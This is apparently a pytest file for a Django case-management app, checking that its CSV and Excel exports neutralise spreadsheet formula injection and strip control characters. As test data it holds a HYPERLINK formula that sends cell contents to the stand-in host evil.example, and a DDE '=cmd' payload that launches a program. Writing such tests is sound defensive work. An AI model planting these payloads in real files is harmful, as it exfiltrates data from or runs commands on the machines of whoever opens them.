"""Hole 4 and the robustness half of hole 5 of issue 16: every export is safe to open.

Text starting with = + - @ (or a tab or carriage return) must never reach a spreadsheet as a
formula, and a control character already stored in a field must never make an export fail.
"""

from __future__ import annotations

import io
from collections.abc import Callable

from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from conftest import World
from tiaojie.audit.events import EventType
from tiaojie.audit.models import AuditEvent
from tiaojie.cases.models import Case, Party
from tiaojie.cases.tests import factories as f

EVIL_SUMMARY = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def _poisoned_case(world: World) -> Case:
    case = f.register(world.user("demo_mediator"))
    # Written under the services, as older data or another way in may have left it.
    Case.objects.filter(pk=case.pk).update(summary=EVIL_SUMMARY + "\x01\x02尾")
    Party.objects.filter(case=case, name="王建华").update(name="+王建华")
    Party.objects.filter(case=case, name="李秀英").update(name="@李秀英\x0b")
    return case


def _cells(body: bytes) -> list[object]:
    book = load_workbook(io.BytesIO(body))
    return [c for sheet in book.worksheets for r in sheet.iter_rows() for c in r]


def test_the_case_workbook_holds_text_not_formulas(
    world: World, client_as: Callable[[str], Client]
) -> None:
    _poisoned_case(world)
    response = client_as("demo_district").get(reverse("cases:case_export") + "?format=xlsx")
    assert response.status_code == 200
    cells = _cells(response.content)
    assert not [c for c in cells if c.data_type == "f"]  # type: ignore[attr-defined]
    summary = next(c for c in cells if "HYPERLINK" in str(c.value))  # type: ignore[attr-defined]
    # Kept as typed (less the control characters), shown as text.
    assert summary.value == EVIL_SUMMARY + "尾"  # type: ignore[attr-defined]
    assert summary.quotePrefix  # type: ignore[attr-defined]


def test_the_case_csv_neutralises_formulas(
    world: World, client_as: Callable[[str], Client]
) -> None:
    _poisoned_case(world)
    response = client_as("demo_district").get(reverse("cases:case_export") + "?format=csv")
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text and '"=HYPERLINK' not in text
    assert "\x01" not in text and "\x02" not in text


def test_the_ledger_export_survives_a_control_character(
    world: World, client_as: Callable[[str], Client]
) -> None:
    _poisoned_case(world)
    response = client_as("demo_street").get(
        reverse("supervision:ledger_export"), {"organisation": world.org("东湖街道司法所").pk}
    )
    assert response.status_code == 200
    cells = _cells(response.content)
    assert not [c for c in cells if c.data_type == "f"]  # type: ignore[attr-defined]
    assert any(c.value == "+王建华、@李秀英" for c in cells)  # type: ignore[attr-defined]


def test_the_audit_csv_neutralises_formulas(
    world: World, client_as: Callable[[str], Client]
) -> None:
    AuditEvent.objects.create(
        event_type=EventType.ACCOUNT_UNLOCKED, reason="=cmd|' /C calc'!A0", actor_username="x"
    )
    response = client_as("demo_auditadmin").get(reverse("audit:event_export"))
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    assert "'=cmd" in text and ",=cmd" not in text
